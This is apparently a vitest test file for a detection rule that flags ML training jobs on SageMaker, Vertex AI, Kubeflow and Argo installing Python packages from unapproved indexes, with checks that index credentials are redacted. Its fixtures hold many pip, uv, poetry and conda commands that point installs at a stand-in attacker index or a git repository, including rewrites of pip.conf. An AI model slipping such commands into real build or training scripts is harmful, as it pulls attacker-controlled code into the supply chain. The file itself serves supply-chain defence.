import { describe, expect, it } from 'vitest';
import { replayEvents } from '../../bridge/replay.js';
import { KubeflowConfig } from '../../connectors/kubeflow/config.js';
import { kubeflowConnector } from '../../connectors/kubeflow/index.js';
import { normalizeKfp } from '../../connectors/kubeflow/kfp/normalize.js';
import { vertexConnector } from '../../connectors/vertex/index.js';
import { packageSourcesOfCommand, packageSourcesOfEnv } from '../../core/integrity/packages.js';
import { RulesConfig } from '../../core/rules/engine.js';
import { NormalizedEvent } from '../../core/schema/index.js';
import { ctRecord, normOne as smOne } from '../connectors/sagemaker/helpers.js';
import { ctx as kubeflowCtx } from '../connectors/kubeflow/helpers.js';
import { auditEntry, ctx as vertexCtx, LOC, V1 } from '../connectors/vertex/samples.js';
import { readFixtureJson } from '../helpers/fixtures.js';

/**
 * training.unverified_dependency: packages a job installs from an index or URL outside the allow list — the supply
 * chain beside the image (a SageMaker job's PIP_INDEX_URL, a Vertex worker pool's env or pip command, a compiled KFP
 * component's pip_index_urls / packages_to_install), read from the platforms' real request shapes.
 */
type Obj = Record<string, any>;
const RULE = 'training.unverified_dependency';
const alertsOf = (evs: NormalizedEvent[], rules: Record<string, unknown> = {}) => replayEvents(evs, { rules: RulesConfig.parse(rules) }).alerts.filter((a) => a.rule_id === RULE);
/** An AWS Deep Learning Container by tag: the image alone passes (a trusted prebuilt image). */
const DLC = '763104351884.dkr.ecr.us-east-1.amazonaws.com/pytorch-training:2.3.0-gpu-py311';
const EVIL = 'https://pypi.attacker.example/simple';

const trainingJob = (environment: Record<string, string>) =>
  NormalizedEvent.parse(smOne(ctRecord('CreateTrainingJob', {
    trainingJobName: 'churn-7', algorithmSpecification: { trainingImage: DLC, trainingInputMode: 'File' }, roleArn: 'arn:aws:iam::111122223333:role/SageMakerExec',
    enableNetworkIsolation: true, hyperParameters: { sagemaker_program: '"train.py"' }, environment,
  })));

describe('SageMaker: the job environment points pip at an index', () => {
  it('PIP_INDEX_URL / PIP_EXTRA_INDEX_URL of a foreign index alert, credentials hidden; PyPI and PyTorch\'s index do not', () => {
    const ev = trainingJob({ PIP_INDEX_URL: EVIL, PIP_TRUSTED_HOST: 'pypi.attacker.example', EPOCHS: '3' });
    expect(ev.ml?.job?.package_sources).toEqual([EVIL]);
    const [alert, ...more] = alertsOf([ev]);
    expect(more).toEqual([]);
    expect(alert!.details).toMatchObject({ job: 'churn-7', package_sources: [EVIL] });
    expect(alert!.summary).toContain(`packages from ${EVIL}, not an allowed package source`);

    const withToken = trainingJob({ PIP_EXTRA_INDEX_URL: 'https://ci:s3cr3t-tok@pypi.attacker.example/simple https://pypi.org/simple' });
    expect(withToken.ml?.job?.package_sources).toEqual(['https://[redacted]@pypi.attacker.example/simple', 'https://pypi.org/simple']);
    const hidden = alertsOf([withToken]);
    expect(hidden).toHaveLength(1);
    expect(JSON.stringify(hidden)).not.toContain('s3cr3t');
    // CloudTrail logs the env as sent: raw hides the index's credentials too, the rest of the record as it was.
    expect(JSON.stringify(withToken)).not.toContain('s3cr3t');
    expect((withToken.raw as Obj).requestParameters.environment.PIP_EXTRA_INDEX_URL).toBe('https://[redacted]@pypi.attacker.example/simple https://pypi.org/simple');
    expect((trainingJob({ PIP_INDEX_URL: EVIL }).raw as Obj).requestParameters.environment.PIP_INDEX_URL).toBe(EVIL);

    expect(alertsOf([trainingJob({ PIP_INDEX_URL: 'https://pypi.org/simple', PIP_EXTRA_INDEX_URL: 'https://download.pytorch.org/whl/cu121' })])).toEqual([]);
    expect(alertsOf([trainingJob({ MEDZEN_LR: '1e-5' })])).toEqual([]);
  });

  it('allowed_package_sources names the team\'s index (host, or host/path globs); a host glob cannot reach into a path', () => {
    const corp = trainingJob({ PIP_INDEX_URL: 'https://artifactory.corp.example/api/pypi/pypi-remote/simple' });
    expect(alertsOf([corp])).toHaveLength(1);
    expect(alertsOf([corp], { [RULE]: { allowed_package_sources: ['artifactory.corp.example/api/pypi/*'] } })).toEqual([]);
    expect(alertsOf([corp], { [RULE]: { allowed_package_sources: ['artifactory.corp.example/api/npm/*'] } })).toHaveLength(1);
    // The default `*-python.pkg.dev` (Artifact Registry) is matched against the host alone.
    expect(alertsOf([trainingJob({ PIP_INDEX_URL: 'https://evil.example/us-python.pkg.dev/simple' })])).toHaveLength(1);
    expect(alertsOf([trainingJob({ PIP_INDEX_URL: 'https://us-python.pkg.dev/ml-prod-123/py/simple' })])).toEqual([]);
    expect(() => RulesConfig.parse({ [RULE]: { allowed_package_sources: 'pypi.org' } })).toThrow();
  });
});

describe('Vertex AI: a worker pool\'s env and pip command', () => {
  const customJob = (spec: Obj) => {
    const out = vertexConnector.normalize!(auditEntry({ method: `${V1}JobService.CreateCustomJob`, resourceName: LOC, request: { parent: LOC, customJob: { displayName: 'train', jobSpec: { network: 'projects/123456/global/networks/vpc', workerPoolSpecs: [spec] } } } }), vertexCtx);
    return NormalizedEvent.parse(out.events[0]);
  };
  const PREBUILT = 'us-docker.pkg.dev/vertex-ai/training/pytorch-gpu.2-1.py310:latest';
  const PINNED = `us-docker.pkg.dev/ml-prod-123/repo/trainer@sha256:${'e'.repeat(64)}`;

  it('pythonPackageSpec.env PIP_INDEX_URL on Google\'s prebuilt executor, and a pip install of git+https in a container command, alert', () => {
    const env = customJob({ pythonPackageSpec: { executorImageUri: PREBUILT, packageUris: ['gs://code/trainer-0.1.tar.gz'], pythonModule: 'trainer.task', env: [{ name: 'PIP_INDEX_URL', value: EVIL }] } });
    expect(alertsOf([env]).map((a) => a.details?.package_sources)).toEqual([[EVIL]]);
    const tokened = customJob({ containerSpec: { imageUri: PINNED, env: [{ name: 'PIP_INDEX_URL', value: 'https://ci:s3cr3t@pypi.corp.example/simple' }], command: ['sh', '-c', 'pip install -i https://pypi.corp.example/simple?token=s3cr3t2 x'] } });
    expect(tokened.ml?.job?.package_sources).toEqual(['https://[redacted]@pypi.corp.example/simple', 'https://pypi.corp.example/simple?token=[redacted]']);
    // The audit entry logs the request as sent: raw hides them too.
    expect(JSON.stringify(tokened)).not.toMatch(/s3cr3t/);
    const git = customJob({ containerSpec: { imageUri: PINNED, command: ['sh', '-c', 'rm -f https://x.example/a && pip install git+https://github.com/attacker/helpers.git && python -m trainer'] } });
    expect(git.ml?.job?.package_sources).toEqual(['git+https://github.com/attacker/helpers.git']);
    expect(alertsOf([git])).toHaveLength(1);
    expect(alertsOf([git], { [RULE]: { allowed_package_sources: ['pypi.org', 'github.com/attacker/*'] } })).toEqual([]);
  });

  it('the prebuilt executor with PyPI and PyTorch\'s wheel index raises nothing', () => {
    const ok = customJob({ pythonPackageSpec: { executorImageUri: PREBUILT, packageUris: ['gs://code/t.tar.gz'], pythonModule: 'trainer.task' }, containerSpec: undefined });
    const torch = customJob({ containerSpec: { imageUri: PINNED, command: ['sh', '-c', 'pip install torch --extra-index-url https://download.pytorch.org/whl/cu121 && python -m trainer'] } });
    expect(alertsOf([ok, torch])).toEqual([]);
  });
});

describe('Kubeflow Pipelines: a compiled component\'s pip install (KFP v2 IR)', () => {
  const FIXTURE = readFixtureJson<Obj>('kubeflow', 'kfp-rest', 'run_completed_with_spec.json');
  const ECR = `111122223333.dkr.ecr.us-east-1.amazonaws.com/base@sha256:${'a'.repeat(64)}`;
  /** The fixture's run, its executor's pip install given `install` (as the KFP compiler writes it) and a pinned image. */
  const run = (install: string) => {
    const r = structuredClone(FIXTURE);
    const ex: Obj = Object.values(r.pipeline_spec.deploymentSpec.executors)[0]!;
    ex.container.image = ECR;
    ex.container.command[2] = `\nif ! [ -x "$(command -v pip)" ]; then\n    python3 -m ensurepip || python3 -m ensurepip --user || apt-get install python3-pip\nfi\n\nPIP_DISABLE_PIP_VERSION_CHECK=1 python3 -m pip install --quiet --no-warn-script-location ${install} && "$0" "$@"\n`;
    return r;
  };
  const create = (r: Obj, meta?: Obj) => NormalizedEvent.parse(normalizeKfp(r, { channel: 'test', receivedTime: '2026-11-25T00:00:00.000Z', keepRaw: false, config: KubeflowConfig.parse({}), meta }).events.find((e) => e.action === 'pipeline_run.create'));

  it('pip_index_urls (--index-url, also as --trusted-host) and a git+https package alert; the default PyPI install does not', () => {
    const index = create(run(`--index-url ${EVIL} --trusted-host ${EVIL} 'kfp==2.14.0' '--no-deps'`));
    expect(index.ml?.job?.package_sources).toEqual([EVIL]);
    expect(alertsOf([index]).map((a) => a.details?.package_sources)).toEqual([[EVIL]]);
    const git = create(run(`'git+https://github.com/attacker/helpers.git'`));
    expect(alertsOf([git]).map((a) => a.details?.package_sources)).toEqual([['git+https://github.com/attacker/helpers.git']]);
    expect(alertsOf([create(run(`'kfp==2.14.0' '--no-deps'`))])).toEqual([]);
  });

  it('a run of a registered version carries the version\'s package sources (the poller lists them)', () => {
    const r = structuredClone(FIXTURE);
    delete r.pipeline_spec;
    r.pipeline_version_reference = { pipeline_id: 'p1', pipeline_version_id: 'v1' };
    const ev = create(r, { version_images: new Map([['v1', [ECR]]]), version_package_sources: new Map([['v1', [EVIL]]]) });
    expect(alertsOf([ev]).map((a) => a.details?.package_sources)).toEqual([[EVIL]]);
  });
});

describe('package sources of env and commands', () => {
  it('reads pip\'s and uv\'s flags and variables, only in pip installs', () => {
    expect(packageSourcesOfCommand(['sh', '-c', `pip install -i ${EVIL} --extra-index-url=https://b.example/s --find-links https://c.example/w 'pkg @ https://d.example/pkg.whl' && curl -f https://e.example/x`])).toEqual([
      EVIL, 'https://b.example/s', 'https://c.example/w', 'https://d.example/pkg.whl',
    ]);
    expect(packageSourcesOfCommand(['python', 'train.py', '--index-url', EVIL])).toEqual([]);
    expect(packageSourcesOfEnv({ UV_INDEX: `internal=${EVIL} https://b.example/s`, PATH: 'https://not.an.index/' })).toEqual([EVIL, 'https://b.example/s']);
    expect(packageSourcesOfEnv([{ name: 'PIP_FIND_LINKS', value: 'https://c.example/w' }, { name: 'X', valueFrom: {} }])).toEqual(['https://c.example/w']);
  });
});

describe('package sources: how else a script points pip, uv, poetry or conda at an index', () => {
  const sh = (script: string) => packageSourcesOfCommand(['sh', '-c', script]);
  it('exec form, quoting, continuations, attached values, prefixes, name@url, env assignments, pip config, other installers', () => {
    expect(packageSourcesOfCommand(['pip', 'install', '-i', EVIL, 'x'])).toEqual([EVIL]);
    expect(packageSourcesOfCommand(['python', '-m', 'pip', 'install', '--index-url', EVIL, 'x'])).toEqual([EVIL]);
    for (const script of [
      `pip install --index-url="${EVIL}" x`,
      `pip install -i${EVIL} x`,
      `python3 -mpip install --index-url ${EVIL} x`,
      `/opt/venv/bin/pip3.11 install --index-url ${EVIL} x`,
      `pip --no-cache-dir install --index-url ${EVIL} x`,
      `python -m 'pip' install --index-url ${EVIL} x`,
      `pip install \\
  --index-url ${EVIL} x`,
      `pip install 'x; python_version>"0"' --index-url ${EVIL}`,
      `pip install --extra-index=${EVIL} x`,
      `PIP_INDEX_URL=${EVIL} pip install x`,
      `export PIP_EXTRA_INDEX_URL=${EVIL}; pip install x`,
      `pip config set global.index-url ${EVIL} && pip install x`,
      `printf '[global]\\nindex-url = ${EVIL}\\n' > /etc/pip.conf && pip install x`,
      `uv add --index ${EVIL} x`,
      `uv run --python 3.11 --index ${EVIL} train.py`,
      `poetry source add evil ${EVIL} && poetry add x`,
      `conda install -c ${EVIL} x`,
    ]) expect(sh(script), script).toEqual([EVIL]);
    expect(sh('pip install "x@https://evil.example/x.whl"')).toEqual(['https://evil.example/x.whl']);
    expect(sh('pip install --requirement=https://evil.example/r.txt')).toEqual(['https://evil.example/r.txt']);
  });

  it('reads no proxy, trusted host, local path or another command\'s URL; a named conda channel is `conda:<name>`', () => {
    expect(sh(`uv run --with git+https://evil.example/h.git serve.py --tracking https://mlflow.corp.example && uvx --from ${EVIL} tool https://x.example/data && poetry run python train.py --data https://data.example/d`)).toEqual(['git+https://evil.example/h.git', EVIL]);
    expect(sh('pip install --proxy http://proxy:3128 --trusted-host evil.example x && pip config set global.proxy http://p:1 && conda install -c conda-forge y && pip install -e . -r requirements.txt && rm -f https://x.example/a')).toEqual(['conda:conda-forge']);
  });

  it('a Vertex container running pip in exec form, its index in args, alerts', () => {
    const out = vertexConnector.normalize!(auditEntry({ method: `${V1}JobService.CreateCustomJob`, resourceName: LOC, request: { parent: LOC, customJob: { displayName: 'train', jobSpec: { network: 'projects/123456/global/networks/vpc', workerPoolSpecs: [{ containerSpec: { imageUri: `us-docker.pkg.dev/ml-prod-123/repo/trainer@sha256:${'e'.repeat(64)}`, command: ['pip'], args: ['install', '--index-url', EVIL, 'helpers'] } }] } } } }), vertexCtx);
    const ev = NormalizedEvent.parse(out.events[0]);
    expect(ev.ml?.job?.package_sources).toEqual([EVIL]);
    expect(alertsOf([ev]).map((a) => a.details?.package_sources)).toEqual([[EVIL]]);
  });
});

describe('Kubernetes audit: training operator jobs and Argo workflows', () => {
  const PIN = `gcr.io/proj/trainer@sha256:${'b'.repeat(64)}`;
  const write = (resource: string, apiGroup: string, requestObject: unknown) => ({
    ...readFixtureJson<Obj>('kubeflow', 'k8s-audit', 'falco_create_nginx_pod_privileged.json'),
    auditID: `pkg-${resource}`, level: 'Request', verb: 'create',
    requestURI: `/apis/${apiGroup}/v1/namespaces/kubeflow-user-alice/${resource}`,
    user: { username: 'alice@example.com', groups: ['system:authenticated'] },
    objectRef: { resource, namespace: 'kubeflow-user-alice', name: 'x1', apiGroup, apiVersion: 'v1' },
    responseStatus: { metadata: {}, code: 201 }, requestObject, responseObject: undefined,
  });
  const one = (r: unknown) => NormalizedEvent.parse(kubeflowConnector.normalize!(r, kubeflowCtx()).events[0]);

  it('a PyTorchJob whose pinned container pip-installs from a foreign index, and an Argo script template installing git+https, alert', () => {
    const pytorch = one(write('pytorchjobs', 'kubeflow.org', {
      metadata: { name: 'bert-ft' },
      spec: { pytorchReplicaSpecs: { Master: { replicas: 1, template: { spec: { containers: [{ name: 'pytorch', image: PIN, command: ['sh', '-c', `pip install --extra-index-url ${EVIL} helpers && torchrun train.py`] }] } } } } },
    }));
    expect(pytorch.ml?.job?.package_sources).toEqual([EVIL]);
    expect(alertsOf([pytorch]).map((a) => a.details?.package_sources)).toEqual([[EVIL]]);
    const argo = one(write('workflows', 'argoproj.io', {
      metadata: { name: 'wf', labels: { 'pipeline/runid': 'rid-1' } },
      spec: { templates: [{ name: 'prep', script: { image: PIN, command: ['sh'], source: 'pip install git+https://github.com/attacker/helpers.git\npython prep.py' } }, { name: 'env', container: { image: PIN, env: [{ name: 'PIP_INDEX_URL', value: 'https://pypi.org/simple' }] } }] },
    }));
    expect(argo.ml?.job?.package_sources).toEqual(['git+https://github.com/attacker/helpers.git', 'https://pypi.org/simple']);
    expect(alertsOf([argo]).map((a) => a.details?.package_sources)).toEqual([['git+https://github.com/attacker/helpers.git']]);
  });
});
